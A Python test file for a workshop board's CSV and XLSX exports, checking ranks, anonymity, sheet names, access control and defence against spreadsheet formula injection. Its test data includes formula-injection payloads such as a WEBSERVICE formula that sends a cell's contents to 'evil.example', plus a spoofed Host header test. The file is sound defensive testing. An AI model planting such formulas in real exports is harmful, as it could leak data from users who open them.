"""The facilitator's exports, CSV and XLSX (docs/spec.md EXP1-EXP6), through the real server.

The full-scale scene (20 participants, 62 deck cards and 10 new cards placed, every dot spent) is
exported, and each export is compared with what this test computes on its own from the board's JSON
snapshot: every placed card once, its dots, its rank overall and in its domain, its description.
A scene of its own adds cards a spreadsheet would misread (phone numbers, "-5", "1/2", formulas):
the CSV keeps them as text when LibreOffice opens it, and the XLSX holds them as text cells.
"""
import csv
import io
import re
import shutil
import subprocess

import openpyxl
import pytest
import requests

from board.export import panorama_csv
from board.export_xlsx import panorama_xlsx, sheet_names
from conftest import join
from domain_helpers import FACILITATOR_ID, Workshop, packaged_document
from fullscale import NAMES, TEAMS, as_facilitator, build_full_scene
from realtime import BoardClient

MARKER = "\u2060"  # U+2060 WORD JOINER: what the CSV puts before a text a spreadsheet would misread
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_HEADER = ["Zone", "Catégorie", "Carte", "Type", "Équipe", "Auteur", "Gommettes", "Rang",
              "Rang dans le domaine", "Description"]
KINDS = {"deck": "Carte du jeu", "new": "Nouvelle carte", "postit": "Post-it"}
# Texts people write that a spreadsheet opening a CSV would turn into numbers, dates or formulas.
PHONES = ["06 12 34 56 78", "0612345678", "+33 6 12 34 56 78"]
VALUES = ["-5", "12345678901234567890", "1/2", "3-4", "mardi 3 mai", "VRAI", "(5)"]
FORMULAS = ['=HYPERLINK("http://evil.example";"clic")', "=1+1", "+1+1", "-1+1", "@SUM(1;2)"]
TRICKY = PHONES + VALUES + FORMULAS
TRICKY_DESCRIPTION = '=WEBSERVICE("http://evil.example/?"&A1)'
TRICKY_TEAM = "+33 Ingénierie"
PLAIN = "Agir avec bienveillance"  # a deck card's text: no reason to touch it


# -- what the exports should hold, computed here from the board's snapshot

def snapshot(server, scene):
    response = requests.get(f"{server.url}/api/board", timeout=10,
                            headers={"Authorization": f"Bearer {scene['admin_token']}"})
    response.raise_for_status()
    return response.json()


def expected_cards(board):
    """Every card not in the deck, by id: its labels, dots, ranks (competition ranking: one more than
    the cards with more dots, overall and within the row), kind, team, author and description."""
    zones = {zone["id"]: zone for zone in board["zones"]}
    rows = board["format"]["panorama"]["rows"]
    columns = board["format"]["panorama"]["columns"]
    row_label = {row["id"]: row["label"]["fr"] for row in rows}
    column_label = {column["id"]: column["label"]["fr"] for column in columns}
    teams = {team["id"]: team["name"] for team in board["teams"]}
    people = {member["id"]: member["name"] for member in board["participants"]}
    dots = {}
    for cards in board["vote"]["dots"].values():
        for card_id, count in cards.items():
            dots[card_id] = dots.get(card_id, 0) + count
    placed = [card for card in board["cards"] if zones[card["zone"]]["kind"] != "deck"]
    expected = {}
    for card in placed:
        zone = zones[card["zone"]]
        mine = dots.get(card["id"], 0)
        same_row = [other for other in placed if zones[other["zone"]]["row"] == zone["row"]]
        expected[card["id"]] = {
            "text": card["text"], "row": zone["row"], "column": zone["column"],
            "zone": row_label[zone["row"]], "category": column_label[zone["column"]],
            "kind": KINDS[card["kind"]], "team": teams.get(card["team"], ""),
            "author": people.get(card["author"], ""), "description": card["description"], "dots": mine,
            "rank": 1 + sum(dots.get(other["id"], 0) > mine for other in placed) if mine else None,
            "domain_rank": 1 + sum(dots.get(other["id"], 0) > mine for other in same_row) if mine else None}
    return expected, [row["id"] for row in rows], [column["id"] for column in columns]


def needs_marker(text):
    """EXP3, said again here: a text that starts a formula, or holds a digit, or starts with '#',
    or is a spreadsheet's boolean word."""
    return (text.startswith(("=", "+", "-", "@", "#")) or re.search(r"\d", text) is not None
            or text.casefold() in {"vrai", "faux", "true", "false"})


def download(scene, name, **query):
    response = requests.get(f"{scene['facilitator_url']}/export.{name}", params=query, timeout=20)
    assert response.status_code == 200, response.text
    return response


def csv_rows(scene, **query):
    data = download(scene, "csv", **query).content
    assert data.startswith("\ufeff".encode())  # French Excel reads UTF-8 only with the BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def workbook(scene, **query):
    response = download(scene, "xlsx", **query)
    assert response.headers["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(response.content))


def unmarked(cell):
    """The text as typed, after checking the marker is there exactly when EXP3 asks for it."""
    if cell.startswith(MARKER):
        assert needs_marker(cell[1:]), f"marker on a text that needs none: {cell!r}"
        return cell[1:]
    assert not needs_marker(cell), f"no marker on {cell!r}"
    return cell


def table(sheet):
    """A sheet's header and its lines as value tuples."""
    lines = list(sheet.iter_rows(values_only=True))
    return list(lines[0]), [tuple(line) for line in lines[1:]]


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


# -- the full-scale scene, revealed

def test_the_csv_holds_every_placed_card_once_with_its_dots_ranks_and_description(server, full_scene):
    """EXP1, EXP2, EXP3 on 20 participants, 72 placed cards and 100 dots."""
    scene = full_scene("revealed")
    expected, row_ids, column_ids = expected_cards(snapshot(server, scene))
    rows = csv_rows(scene)
    assert rows[0] == CSV_HEADER
    lines = rows[1:]
    assert len(lines) == len(expected) == 72
    by_text = {card["text"]: card for card in expected.values()}
    assert len(by_text) == 72  # the texts tell the cards apart
    seen = []
    for line in lines:
        zone, category, text, kind, team, author, dots, rank, domain_rank, description = line
        text = unmarked(text)
        card = by_text[text]
        seen.append(text)
        assert (unmarked(zone), unmarked(category), kind, unmarked(team), unmarked(author)) == (
            card["zone"], card["category"], card["kind"], card["team"], card["author"])
        assert unmarked(description) == card["description"] and card["description"]
        assert int(dots) == card["dots"]
        assert (int(rank) if rank else None) == card["rank"]
        assert (int(domain_rank) if domain_rank else None) == card["domain_rank"]
    assert sorted(seen) == sorted(by_text)  # every placed card, once
    # Panorama order: row by row, column by column, the best ranked first in each cell.
    order = [(row_ids.index(by_text[t]["row"]), column_ids.index(by_text[t]["column"]),
              by_text[t]["rank"] or 10**6) for t in seen]
    assert order == sorted(order)
    assert sum(1 for card in expected.values() if card["rank"] == 1) >= 1
    assert {card["kind"] for card in expected.values()} == {"Carte du jeu", "Nouvelle carte"}
    assert any(card["author"] for card in expected.values())  # no anonymity here: new cards name authors


def test_the_xlsx_has_the_panorama_the_ranking_and_a_sheet_per_domain_with_typed_cells(server, full_scene):
    """EXP1, EXP2, EXP4, EXP5."""
    scene = full_scene("revealed")
    board = snapshot(server, scene)
    expected, row_ids, column_ids = expected_cards(board)
    rows = board["format"]["panorama"]["rows"]
    book = workbook(scene)
    shorts = [(row.get("short") or row["label"])["fr"] for row in rows]
    assert book.sheetnames[:2] == ["Panorama", "Classement"] and len(book.sheetnames) == 2 + len(rows)
    for name, short in zip(book.sheetnames[2:], shorts):
        assert len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name)
        assert name == short or (name.endswith("…") and short.startswith(name[:-1]))
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    assert not [cell.coordinate for cell in cells(book) if cell.data_type == "f"]

    # The Panorama: a row per domain, a column per category, each cell its cards, best ranked first.
    header, lines = table(book["Panorama"])
    assert header == ["Domaine"] + [column["label"]["fr"] for column in board["format"]["panorama"]["columns"]]
    assert [line[0] for line in lines] == [row["label"]["fr"] for row in rows]
    for row_index, line in enumerate(lines):
        for column_index, value in enumerate(line[1:]):
            here = [card for card in expected.values()
                    if card["row"] == row_ids[row_index] and card["column"] == column_ids[column_index]]
            here.sort(key=lambda card: (card["rank"] or 10**6, card["text"].casefold()))
            assert (value or "").split("\n") == [card["text"] for card in here] or (not here and value is None)

    # The ranking: every card with dots, best first, numbers as numbers.
    header, lines = table(book["Classement"])
    assert header == ["Rang", "Carte", "Domaine", "Catégorie", "Gommettes", "Type", "Équipe", "Auteur",
                      "Rang dans le domaine"]
    ranked = [card for card in expected.values() if card["rank"]]
    assert sorted(lines, key=lambda line: line[1]) == sorted(
        ((card["rank"], card["text"], card["zone"], card["category"], card["dots"], card["kind"], card["team"],
          card["author"] or None, card["domain_rank"]) for card in ranked), key=lambda line: line[1])
    assert [line[0] for line in lines] == sorted(line[0] for line in lines)
    for row in book["Classement"].iter_rows(min_row=2):
        assert row[0].data_type == "n" and row[4].data_type == "n" and row[1].data_type == "s"

    # One sheet per domain: every card of its row once, ranked ones first by their rank in the domain.
    in_sheets = []
    for row_id, name in zip(row_ids, book.sheetnames[2:]):
        header, lines = table(book[name])
        assert header == ["Rang dans le domaine", "Rang", "Carte", "Catégorie", "Gommettes", "Type", "Équipe",
                          "Auteur", "Description"]
        mine = [card for card in expected.values() if card["row"] == row_id]
        assert sorted(lines, key=lambda line: line[2]) == sorted(
            ((card["domain_rank"], card["rank"], card["text"], card["category"], card["dots"], card["kind"],
              card["team"], card["author"] or None, card["description"]) for card in mine), key=lambda line: line[2])
        ranks = [line[0] for line in lines]
        assert ranks == sorted(ranks, key=lambda rank: rank or 10**6)
        in_sheets += [line[2] for line in lines]
    assert sorted(in_sheets) == sorted(card["text"] for card in expected.values())

    # Each sheet: a bold header row frozen at the top, widths that fit, long text wrapped.
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        for column in sheet.iter_cols():
            width = sheet.column_dimensions[column[0].column_letter].width
            longest = max(len(line) for cell in column if cell.value is not None for line in str(cell.value).split("\n"))
            assert min(longest, 30) <= width <= 62, (sheet.title, column[0].column_letter, width, longest)
            for cell in column:
                if isinstance(cell.value, str) and ("\n" in cell.value or len(cell.value) > width):
                    assert cell.alignment.wrap_text, (sheet.title, cell.coordinate)
                    # The row is tall enough for every line (15 points a line): nothing cut on opening.
                    height = sheet.row_dimensions[cell.row].height
                    assert height and height >= 15 * (cell.value.count("\n") + 1), (sheet.title, cell.coordinate)


def test_the_exports_speak_english_when_asked(full_scene):
    """EXP2: ?lang=en gives English headers, kinds, labels and sheet names."""
    scene = full_scene("revealed")
    rows = csv_rows(scene, lang="en")
    assert rows[0] == ["Zone", "Category", "Card", "Kind", "Team", "Author", "Dots", "Rank", "Rank in domain",
                       "Description"]
    assert {row[0] for row in rows[1:]} >= {"Maintenance", "Engineering and R&D"}
    assert {row[3] for row in rows[1:]} == {"Deck card", "New card"}
    book = workbook(scene, lang="en")
    assert book.sheetnames[:3] == ["Panorama", "Ranking", "Common base"]


# -- anonymity

def test_the_exports_name_nobody_while_a_sequence_is_anonymous_unless_the_facilitator_asks(server):
    """EXP6 and ANON5, CSV and XLSX alike."""
    scene = build_full_scene(server.url, "placed")
    named_csv, named_book = csv_rows(scene), workbook(scene)
    assert "Auteur" in named_csv[0]
    named_text = repr(named_csv) + repr([cell.value for cell in cells(named_book)])
    authors = [name for name in NAMES if name in named_text]
    assert len(authors) >= 5  # the new cards' authors are there

    as_facilitator(server.url, scene, ("set_anonymity", {"on": True, "sequence": 2}))
    anonymous_csv, anonymous_book = csv_rows(scene), workbook(scene)
    assert "Auteur" not in anonymous_csv[0] and len(anonymous_csv[0]) == len(named_csv[0]) - 1
    assert all("Auteur" not in table(sheet)[0] for sheet in anonymous_book.worksheets)
    text = repr(anonymous_csv) + repr([cell.value for cell in cells(anonymous_book)])
    for name in [*NAMES, "Animateur"]:
        assert name not in text
    assert len(anonymous_csv) == len(named_csv)  # the same cards, without their authors

    assert csv_rows(scene, names="1") == named_csv
    asked = workbook(scene, names="1")
    assert [table(sheet) for sheet in asked.worksheets] == [table(sheet) for sheet in named_book.worksheets]


# -- text that a spreadsheet would misread

@pytest.fixture(scope="module")
def tricky_scene(server):
    """The full-scale scene, placed, plus cards whose texts a spreadsheet would take for a phone number
    turned into a number, a date, a negative number or a formula, in the Maintenance row by a member
    of the team working on it, that team renamed to a formula-looking name."""
    scene = build_full_scene(server.url, "placed")
    team = scene["teams"][[name for name, _ in TEAMS].index("Ingénierie")]
    writer = next(person for person in scene["people"] if scene["team_of"][person["participant_id"]] == team)
    client = BoardClient(server.url, writer["token"])
    try:
        for index, text in enumerate(TRICKY):
            ack = client.command("create_card", {"kind": "new", "text": text, "zone_id": "maintenance/techniques",
                                                 "x": 0.1, "y": index / len(TRICKY), "description": TRICKY_DESCRIPTION})
            assert ack["ok"], ack
    finally:
        client.close()
    as_facilitator(server.url, scene, ("set_team", {"team_id": team, "name": TRICKY_TEAM}))
    return scene


def test_the_csv_marks_only_the_texts_a_spreadsheet_would_misread_and_adds_no_apostrophe(tricky_scene):
    """EXP3: phone numbers, "-5", long digit strings, dates and formulas start with the invisible
    U+2060; a text with nothing to fear is as typed; nothing starts with an apostrophe."""
    rows = csv_rows(tricky_scene)
    cards = {row[2]: row for row in rows[1:]}
    for text in TRICKY:
        line = cards[MARKER + text]
        assert line[9] == MARKER + TRICKY_DESCRIPTION and line[4] == MARKER + TRICKY_TEAM
    assert PLAIN in cards  # untouched
    assert not [cell for row in rows for cell in row if cell.startswith(("'", "=", "+", "-", "@"))]


def test_the_xlsx_holds_those_texts_as_typed_in_text_cells(tricky_scene):
    """EXP4: no marker is needed in XLSX: each text is a text cell, none a formula."""
    book = workbook(tricky_scene)
    texts = {cell.value: cell for cell in cells(book) if isinstance(cell.value, str)}
    for text in TRICKY + [TRICKY_DESCRIPTION, TRICKY_TEAM]:
        assert texts[text].data_type == "s", text
    assert not [cell.coordinate for cell in cells(book) if cell.data_type == "f"]
    assert not [cell.value for cell in cells(book) if isinstance(cell.value, str) and MARKER in cell.value]


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# LibreOffice's CSV import options (its "FilterOptions"): ';' (59) between fields, '"' (34) around them,
# UTF-8 (76), from line 1, every column "Standard", French (1036), quoted fields not forced to text,
# special numbers (dates, times, scientific notation) detected, formulas evaluated: the import that
# turns most into values, as a French LibreOffice opening the file would.
LIBREOFFICE_CSV = "CSV:59,34,76,1,,1036,false,true,false,false,false,-1,true"


def libreoffice_opens(csv_bytes, folder):
    """The cells LibreOffice Calc makes of a CSV: opened headless, saved as XLSX, read by openpyxl."""
    source = folder / "export.csv"
    folder.mkdir(parents=True, exist_ok=True)
    source.write_bytes(csv_bytes)
    done = subprocess.run([SOFFICE, f"-env:UserInstallation=file://{folder / 'profile'}", "--headless",
                           f"--infilter={LIBREOFFICE_CSV}", "--convert-to", "xlsx", "--outdir", str(folder / "out"),
                           str(source)], capture_output=True, text=True, timeout=180)
    target = folder / "out" / "export.xlsx"
    assert target.exists(), done.stdout + done.stderr
    return openpyxl.load_workbook(target).active


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui; "
                                            "`make test` installs it): the CSV cannot be opened by a spreadsheet here")
def test_libreoffice_opens_the_csv_with_phone_numbers_negative_numbers_and_formulas_as_text(tricky_scene, tmp_path):
    """EXP3 in a real spreadsheet: each phone number is the string typed (after the marker), "-5" is
    text, a formula-looking text is text, not a formula; dots stay numbers. The same texts without
    the marker, opened the same way, do become numbers, dates and formulas: the marker is what helps."""
    sheet = libreoffice_opens(download(tricky_scene, "csv").content, tmp_path / "export")
    header = [cell.value for cell in sheet[1]]
    assert header == CSV_HEADER
    lines = list(sheet.iter_rows(min_row=2))
    card = {cell[2].value: cell for cell in lines}
    for text in TRICKY:
        line = card[MARKER + text]
        assert line[2].data_type == "s" and line[2].value == MARKER + text
        assert line[9].data_type == "s" and line[9].value == MARKER + TRICKY_DESCRIPTION
        assert line[4].value == MARKER + TRICKY_TEAM
        assert line[6].data_type == "n" and line[6].value == 0  # dots: a number
    assert card[PLAIN][2].data_type == "s"
    assert not [cell.coordinate for line in lines for cell in line if cell.data_type == "f"]
    assert not [cell.value for line in lines for cell in line
                if isinstance(cell.value, str) and cell.value.startswith("'")]

    # The control: without the marker, LibreOffice turns these very texts into values and formulas.
    bare = io.StringIO()
    csv.writer(bare, delimiter=";", lineterminator="\r\n").writerows([["Carte"]] + [[text] for text in TRICKY])
    control = libreoffice_opens(("\ufeff" + bare.getvalue()).encode(), tmp_path / "control")
    read = {text: cell for text, (cell,) in zip(TRICKY, control.iter_rows(min_row=2))}
    assert read["0612345678"].value == 612345678 and read["-5"].value == -5
    assert read["1/2"].data_type == "d" and read["mardi 3 mai"].data_type == "d"
    assert read["=1+1"].data_type == "f" and read["VRAI"].value is True


# -- labels, sheet names, the route

def test_the_xlsx_takes_the_boards_own_labels_and_makes_valid_distinct_sheet_names():
    """EXP2, EXP5: labels as the board has them (here long, with characters Excel forbids, twice the
    same) become sheet names Excel accepts, all different."""
    document = packaged_document()
    rows = document["panorama"]["rows"]
    rows[0].pop("short", None)
    rows[0]["label"]["fr"] = "Santé/Sécurité : règles [essentielles]? *toutes*"
    rows[1]["label"]["fr"] = "'Maintenance'"
    rows[2]["label"]["fr"] = "maintenance"
    rows[3]["label"]["fr"] = "Une très longue étiquette de domaine qui dépasse la limite d’Excel"
    rows[4]["label"]["fr"] = "Une très longue étiquette de domaine qui dépasse aussi la limite"
    workshop = Workshop(document)
    workshop.join("p1", name="Zoé")
    workshop.accept(FACILITATOR_ID, "set_sequence", index=2)
    workshop.accept("p1", "create_card", kind="new", text="Carte", zone_id=f"{rows[0]['id']}/techniques", x=.5, y=.5)
    book = openpyxl.load_workbook(io.BytesIO(panorama_xlsx(workshop.board, "fr")))
    names = book.sheetnames[2:]
    assert names[:5] == ["Santé Sécurité règles…", "Maintenance", "maintenance (2)",
                         "Une très longue étiquette de…", "Une très longue étiquette… (2)"]
    for name in book.sheetnames:
        assert 0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) and name[0] != "'" and name[-1] != "'"
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    assert table(book["Panorama"])[1][0][0] == rows[0]["label"]["fr"]  # the grid says the label whole
    assert table(book[names[0]])[1][0][2] == "Carte"


def test_a_card_left_in_a_free_area_is_exported_outside_the_panorama_grid():
    """EXP1: a card put aside (the format's free area) is in the CSV, in a row of the Panorama sheet
    named after its area, and on a sheet of its own, once."""
    workshop = Workshop()
    workshop.join("p1", name="Zoé")
    workshop.accept(FACILITATOR_ID, "set_sequence", index=1)
    workshop.accept("p1", "move_card", card_id="d01", zone_id="parking", x=.5, y=.5)
    workshop.accept("p1", "move_card", card_id="d02", zone_id="maintenance/techniques", x=.5, y=.5)
    area = workshop.board.zones["parking"].label["fr"]
    text = workshop.board.cards["d01"].text
    rows = list(csv.reader(io.StringIO(panorama_csv(workshop.board).decode("utf-8-sig")), delimiter=";"))
    assert [row[:3] for row in rows[1:] if row[2] == text] == [[area, "", text]]
    book = openpyxl.load_workbook(io.BytesIO(panorama_xlsx(workshop.board, "fr")))
    assert book.sheetnames[-1] == "Hors Panorama"
    assert table(book["Panorama"])[1][-1][:2] == (area, text)
    assert [line[:2] for line in table(book["Hors Panorama"])[1]] == [(area, None)]
    assert [line[2] for line in table(book["Hors Panorama"])[1]] == [text]


def test_sheet_names_are_cut_renamed_and_numbered_as_excel_needs():
    """EXP5 on names alone: empty, reserved ("History"), or equal but for case."""
    names = sheet_names(["Panorama", "", "History", "PANORAMA", "a" * 40, "a" * 40, "x:y"])
    assert names == ["Panorama", "Sheet 2", "History 1", "PANORAMA (2)", "a" * 30 + "…", "a" * 26 + "… (2)", "x y"]


def test_the_xlsx_route_is_the_facilitators_own_download(server):
    """EXP6: the facilitator's token only, no-store, the XLSX type and a file name; another's token 404."""
    response = requests.post(server.url + "/workshops", json={"format": "atelier-competences"}, timeout=5)
    links = response.json()
    person = join(server.url, links["join_code"], "Zoé")
    answer = requests.get(links["facilitator_url"] + "/export.xlsx", timeout=10)
    assert answer.status_code == 200 and answer.headers["Content-Type"] == XLSX
    assert answer.headers["Content-Disposition"] == 'attachment; filename="panorama.xlsx"'
    assert answer.headers["Cache-Control"] == "no-store"
    assert openpyxl.load_workbook(io.BytesIO(answer.content)).sheetnames[:2] == ["Panorama", "Classement"]
    assert requests.get(f"{server.url}/f/{person['token']}/export.xlsx", timeout=5).status_code == 404
    wrong_host = requests.get(links["facilitator_url"] + "/export.xlsx", headers={"Host": "evil.example"}, timeout=5)
    assert wrong_host.status_code == 421
